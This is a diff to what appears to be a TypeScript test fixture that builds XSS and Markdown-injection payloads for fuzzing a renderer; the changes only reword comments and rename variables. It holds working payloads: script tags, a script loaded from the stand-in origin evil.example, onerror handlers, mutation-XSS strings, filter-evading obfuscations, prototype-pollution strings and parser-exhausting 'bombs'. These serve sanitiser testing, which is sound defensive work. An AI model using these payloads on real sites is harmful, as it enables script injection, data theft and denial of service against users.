@@ -1,10 +1,10 @@
 import { UNSAFE_URLS, UNUSUAL_WEB_URLS } from './injection-urls.ts'
 
-/** What every text tries: to run this, or to make the browser ask this host. */
+/** Every payload tries to run this script or to make the browser send a request to this origin. */
 const SCRIPT_PAYLOAD = 'top.__hit=1'
 const ATTACKER_ORIGIN = 'https://evil.example'
 
-/** Markup that runs, loads, covers or renames something wherever it becomes more than text. */
+/** Markup that would run a script, load a resource, cover the page or clobber a name if it were rendered as HTML. */
 export const HTML_PAYLOADS = [
   `<script>${SCRIPT_PAYLOAD}</script>`,
   `<script src=${ATTACKER_ORIGIN}/x.js></script>`,
@@ -42,7 +42,7 @@ export const HTML_PAYLOADS = [
 
 type Obfuscation = (tag: string) => string
 
-/** How markup hides from whoever looks for it, and the places of Markdown into which it can be put. */
+/** Ways to hide markup from a filter, and the positions in Markdown where it can stand. */
 const HTML_OBFUSCATIONS: Obfuscation[] = [
   (tag) => tag.toUpperCase(),
   (tag) =>
@@ -79,22 +79,22 @@ const HTML_OBFUSCATIONS: Obfuscation[] = [
   (tag) => `~~~html\n${tag}\n~~~`,
 ]
 
-/** The ways of Markdown to lead somewhere. */
-const MARKDOWN_LINK_FORMS: ((address: string) => string)[] = [
-  (address) => `[go](${address})`,
-  (address) => `[go](<${address}>)`,
-  (address) => `[go][1]\n\n[1]: ${address}`,
-  (address) => `<${address}>`,
-  (address) => `see ${address} now`,
-  (address) => `![go](${address})`,
-  (address) => `[![go](${address})](${address})`,
-  (address) => `note[^1]\n\n[^1]: [go](${address})`,
-  (address) => `[go](${address} "x\\" onmouseover=\\"${SCRIPT_PAYLOAD}")`,
-  (address) => `| [go](<${address}>) |\n| --- |`,
-  (address) => `<a href="${address}">go</a>`,
+/** Every form of a link in Markdown. */
+const MARKDOWN_LINK_FORMS: ((url: string) => string)[] = [
+  (url) => `[go](${url})`,
+  (url) => `[go](<${url}>)`,
+  (url) => `[go][1]\n\n[1]: ${url}`,
+  (url) => `<${url}>`,
+  (url) => `see ${url} now`,
+  (url) => `![go](${url})`,
+  (url) => `[![go](${url})](${url})`,
+  (url) => `note[^1]\n\n[^1]: [go](${url})`,
+  (url) => `[go](${url} "x\\" onmouseover=\\"${SCRIPT_PAYLOAD}")`,
+  (url) => `| [go](<${url}>) |\n| --- |`,
+  (url) => `<a href="${url}">go</a>`,
 ]
 
-/** Languages of code that are none. */
+/** Code fences whose language is not a language. */
 const CODE_FENCE_PAYLOADS = [
   ...['"><img src=x onerror=', 'html onload=', 'ts"><script>', 'javascript:', '../../x', '{=html}'],
   ...['__proto__', 'constructor', 'toString', '\u{202e}ts', 'ts hljs-x', 'hljs', 'mermaid', 'math'],
@@ -103,7 +103,7 @@ const CODE_FENCE_PAYLOADS = [
     `\`\`\`${language.replaceAll('`', '')}\n<img src=x onerror=${SCRIPT_PAYLOAD}>\n\`\`\``,
 )
 
-/** Words that are more than words to some programs. */
+/** Strings with a special meaning in JavaScript, templates, SQL, paths or Unicode. */
 const SPECIAL_STRINGS = [
   ...['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'valueOf', '__hit'],
   ...['{"__proto__":{"__hit":1}}', 'constructor[prototype][__hit]=1', 'null', 'undefined', 'NaN'],
@@ -148,7 +148,7 @@ const SPECIAL_STRINGS = [
   ...['x'.repeat(600), 'W'.repeat(90), '\u{fdfd}'.repeat(40), '\u{1f30a}'.repeat(90)],
 ]
 
-/** Markup that is harmless as it stands and comes to life when it is read, written and read again. */
+/** Markup that is harmless when parsed once and dangerous after serializing and parsing it again. */
 const MUTATION_XSS_PAYLOADS = [
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${SCRIPT_PAYLOAD}&gt;">`,
   `<svg></p><style><a id="</style><img src=x onerror=${SCRIPT_PAYLOAD}>">`,
@@ -170,7 +170,7 @@ const MUTATION_XSS_PAYLOADS = [
   `<https://a.example/\u{0022}onclick=${SCRIPT_PAYLOAD}>`,
 ]
 
-/** Little text that makes much work. */
+/** Short texts that are expensive to parse. */
 const MARKDOWN_BOMBS = [
   ...['[', '*', '`', '<', '~', '|', '#', '&', '\\', '_', '!'].map((mark) => mark.repeat(900)),
   ...['a*', '**a*', '[a](', '![', '[^1]', 'www.', '|a', '- [ ] a\n'].map((mark) =>
@@ -183,7 +183,7 @@ const MARKDOWN_BOMBS = [
   `${'['.repeat(300)}a${'](https://a.example)'.repeat(40)}`,
 ]
 
-/** Every text, each to be read by itself: what one leaves open would swallow the next. */
+/** Every payload. Each must be rendered separately: an unclosed construct would swallow the next payload. */
 export const INJECTION_PAYLOADS = [
   ...HTML_PAYLOADS,
   ...combineEveryNth(HTML_PAYLOADS, HTML_OBFUSCATIONS, 4),
@@ -194,9 +194,9 @@ export const INJECTION_PAYLOADS = [
   ...MARKDOWN_BOMBS,
 ]
 
-/** Every `nth` of all pairs, spread so that each of one kind meets many of the other. */
-function combineEveryNth<T>(some: T[], ways: ((one: T) => string)[], nth: number): string[] {
-  return some.flatMap((one, row) =>
-    ways.filter((_, column) => (row + column) % nth === 0).map((way) => way(one)),
+/** One in `step` of all pairs, spread so that each value is combined with many different forms. */
+function combineEveryNth<T>(values: T[], forms: ((value: T) => string)[], step: number): string[] {
+  return values.flatMap((value, row) =>
+    forms.filter((_, column) => (row + column) % step === 0).map((form) => form(value)),
   )
 }
